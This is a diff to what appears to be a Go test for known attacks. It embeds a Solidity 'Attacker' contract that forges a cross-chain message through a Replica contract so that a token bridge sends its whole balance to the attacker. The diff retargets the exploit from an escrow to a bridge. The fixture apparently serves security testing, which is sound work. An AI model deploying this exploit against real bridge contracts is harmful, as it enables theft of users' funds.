@@ -59,13 +59,14 @@ func TestAttackKnown(t *testing.T) {
 import "./Replica.sol";
 interface World { function target() external view returns (address); function asset() external view returns (address); function deployed(string calldata) external view returns (address); }
 interface Balance { function balanceOf(address) external view returns (uint256); }
+interface Bridge { function remoteBridge() external view returns (address); }
 contract Attacker {
     function step(uint256, address w) external returns (uint256) {
         Replica replica = Replica(World(w).target());
-        TokenEscrow escrow = TokenEscrow(World(w).deployed("TokenEscrow"));
+        Bridge bridge = Bridge(World(w).deployed("TokenBridge"));
         address token = World(w).asset();
-        replica.deliver(Replica.Message(replica.remoteDomain(), escrow.remoteRouter(), 0, replica.localDomain(), address(escrow),
-            abi.encode(token, address(this), Balance(token).balanceOf(address(escrow)))));
+        replica.deliver(Messages.Message(replica.remoteDomain(), bytes32(uint256(uint160(bridge.remoteBridge()))), 0,
+            replica.localDomain(), address(bridge), abi.encode(token, address(this), Balance(token).balanceOf(address(bridge)))));
         return 0;
     }
 }`,
